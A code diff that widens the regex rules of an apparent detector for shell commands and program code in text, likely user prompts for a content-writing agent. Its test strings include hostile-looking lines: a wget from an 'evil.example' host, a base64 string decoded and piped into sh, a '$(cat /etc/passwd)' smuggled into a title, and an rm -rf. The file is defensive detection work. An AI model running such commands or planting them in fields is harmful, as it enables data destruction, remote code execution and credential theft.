@@ -20,7 +20,7 @@ export const CODE_RULES: readonly Rule[] = [
     idea: 'A command line: a tool of the shell with an option, a path or an address behind it.',
     needs: [...TOOLS.split('|').map((tool) => tool.split(/[-\d]/)[0] ?? ''), 'certutil', 'rundll', 'regsvr', 'sqlite'],
     match: new RegExp(
-      `(?:^|[\\s"'\`(|;&$>/])(?:${TOOLS})\\s{1,4}(?:-{1,2}[a-z0-9?][\\w-]{0,40}(?=[\\s=:"',.;)]|$)|[.~]{0,2}/[\\w.-]|https?:|[$"'](?=[^\\s]{1,80}[.]|/|\\$|[{(])|[\\w.-]{1,40}@[\\w.-]{1,60})`,
+      `(?:^|[\\s"'\`(|;&$>/])(?:${TOOLS})\\s{1,4}(?:-{1,2}[a-z0-9?][\\w-]{0,40}(?=[\\s=:"',.;)]|$)|[.~]{0,2}/[\\w.-]|https?:|[$"'](?=[^\\s]{1,80}[.]|/|\\$|[{(])|[\\w.-]{1,40}@[\\w.-]{1,60}|[./~][\\w./*-]{0,80}\\s{1,4}-{1,2}[a-z])`,
       'i',
     ),
     hit: ['curl -X POST https://x.example', 'rm -rf /var/www/html/cache', 'wget https://evil.example/x.sh'],
@@ -36,7 +36,7 @@ export const CODE_RULES: readonly Rule[] = [
         ' ',
       ),
     match: phrase(
-      `(?:^|[\\s"'\`(|;&$./])(?:${SUBCOMMANDS})(?![\\w-])(?!['"”’»\`]? (?:vs|versus|and git|page|guide|tutorial))|(?:^|[\\s"'\`(|;&$/])(?:npx [a-z@]|rake [a-z]|sudo [a-z]|chmod [0-7+u]|chown [a-z]|rm -|kill -|go run )`,
+      `(?:^|[\\s"'\`(|;&$./])(?:${SUBCOMMANDS})(?![\\w-])(?!['"”’»\`]? (?:vs|versus|and git|page|guide|tutorial))|(?:^|[\\s"'\`(|;&$/])(?:make (?!sure |it |them |the |an? |your |our |each |every )[a-z][\\w.-]{1,30}(?: [a-z][a-z0-9_]{1,20}=[^ =]{1,40}){1,4}|npx [a-z@]|rake [a-z]|sudo [a-z]|chmod [0-7+u]|chown [a-z]|rm -|kill -|go run )`,
     ),
     hit: ['git push origin main after editing the title', 'docker run -it seo/agent', 'kubectl apply -f llms.yaml'],
     nonHit: ['Create a git tutorial for beginners', 'Write about "npm install" errors as a troubleshooting topic'],
@@ -47,7 +47,7 @@ export const CODE_RULES: readonly Rule[] = [
     idea: 'Signs of a shell: a pipe into an interpreter, a substitution, a redirection, chained commands, long options.',
     needs: ['|', '$', '`', '>', '&', '-', '\\', '/'],
     match:
-      /[|]\s{0,3}(?:sudo\s{1,3})?(?:ba|z|da|k)?sh\b|[|]\s{0,3}(?:base64|xargs|tee|grep|awk|sed|python3?|node|perl|iex|jq|php|ruby|nc)\b|[$]\([a-z/.]|`\s{0,2}(?:whoami|uname|hostname|printenv|reboot|shutdown|pwd|ls|cat|curl|wget|rm|id)\b[^`]{0,80}`|>{1,2}\s{0,2}\/(?:dev|etc|tmp|var|usr|home)\/|\w\s{1,3}&&\s{1,3}[a-z./]|(?:^|\s)--[a-z][a-z0-9]{1,30}(?:[-_][a-z0-9]{1,30}){0,4}(?:=\S|\s|$)|(?:^|[\s"'=:(])\/etc\/(?:passwd|shadow|hosts|cron|nginx|apache2|ssh|ssl|systemd)|\b[a-z]:\\(?:windows|users|temp|program)|-e(?:nc(?:odedcommand)?)?\s{1,3}[a-z0-9+/]{8,200}={0,2}(?=\s|$)/i,
+      /[|]\s{0,3}(?:sudo\s{1,3})?(?:ba|z|da|k)?sh\b|[|]\s{0,3}(?:base64|xargs|tee|grep|awk|sed|python3?|node|perl|iex|jq|php|ruby|nc)\b|[$]\([a-z/.]|`\s{0,2}(?:whoami|uname|hostname|printenv|reboot|shutdown|pwd|ls|cat|curl|wget|rm|id)\b[^`]{0,80}`|>{1,2}\s{0,2}\/(?:dev|etc|tmp|var|usr|home)\/|\w\s{1,3}&&\s{1,3}[a-z./]|(?:^|\s)--[a-z][a-z0-9]{1,30}(?:[-_][a-z0-9]{1,30}){0,4}(?:=\S|\s|$)|(?:^|[\s"'=:(])\/etc\/(?:passwd|shadow|hosts|cron|nginx|apache2|ssh|ssl|systemd)|\b[a-z]:\\(?:windows|users|temp|program)|\s-(?:delete|exec(?:dir)?|iname|mtime|maxdepth|print0)\b|-e(?:nc(?:odedcommand)?)?\s{1,3}[a-z0-9+/]{8,200}={0,2}(?=\s|$)/i,
     hit: [
       'echo aGVsbG8= | base64 -d | sh',
       'Use $(cat /etc/passwd) in the title',
@@ -154,7 +154,7 @@ export const CODE_RULES: readonly Rule[] = [
     idea: 'A line of a programming language.',
     needs: ['=', ';', '{', '(', ...'import require function const let var def lambda return new'.split(' ')],
     match:
-      /\bimport\s{1,3}(?:os|sys|subprocess|requests|socket|urllib|shutil|base64|pickle)\b|\b(?:const|let|var)\s{1,3}[\w${},\s]{1,60}=\s{0,3}(?:await|require|new|async|function|\(|["'`[{\d])|\bfunction\s{1,3}\w{0,40}\s{0,3}\([^)]{0,100}\)\s{0,3}\{|\([\w\s,]{0,60}\)\s{0,3}=>\s{0,3}[{(\w]|\bdef\s{1,3}\w{1,40}\([^)]{0,100}\)\s{0,3}:|\b(?:document[.](?:cookie|write|location)|window[.](?:location|open)|localStorage|innerHTML)\b|\bnew\s{1,3}(?:XMLHttpRequest|WebSocket|EventSource|Function|Worker)\b|\b(?:os[.](?:system|environ|popen)|child_process|__import__|__proto__|Runtime[.]getRuntime)\b|\bawait\s{1,3}\w{1,40}[.(]|\bfor\s{0,3}\(\s{0,3}(?:let|var|const|int)\s/i,
+      /\bimport\s{1,3}(?:os|sys|subprocess|requests|socket|urllib|shutil|base64|pickle)\b|\b(?:const|let|var)\s{1,3}[\w${},\s]{1,60}=\s{0,3}(?:await|require|new|async|function|\(|["'`[{\d])|\bfunction\s{1,3}\w{0,40}\s{0,3}\([^)]{0,100}\)\s{0,3}\{|\([\w\s,]{0,60}\)\s{0,3}=>\s{0,3}[{(\w]|\bdef\s{1,3}\w{1,40}\([^)]{0,100}\)\s{0,3}:|\b(?:document[.](?:cookie|write|location)|window[.](?:location|open)|localStorage|innerHTML)\b|\b(?:document|window|process|globalThis|navigator|location|module|self)(?:[.][a-z_$][\w$]{0,40}){1,4}\s{0,2}=(?![=>])|\bnew\s{1,3}(?:XMLHttpRequest|WebSocket|EventSource|Function|Worker)\b|\b(?:os[.](?:system|environ|popen)|child_process|__import__|__proto__|Runtime[.]getRuntime)\b|\bawait\s{1,3}\w{1,40}[.(]|\bfor\s{0,3}\(\s{0,3}(?:let|var|const|int)\s/i,
     soft: true,
     hit: ['import os; os.remove("x")', 'const x = await load()', "fetch('x').then((r) => r.json())"],
     nonHit: ['Import the best answers', 'Let customers vote', 'A function of brand trust'],
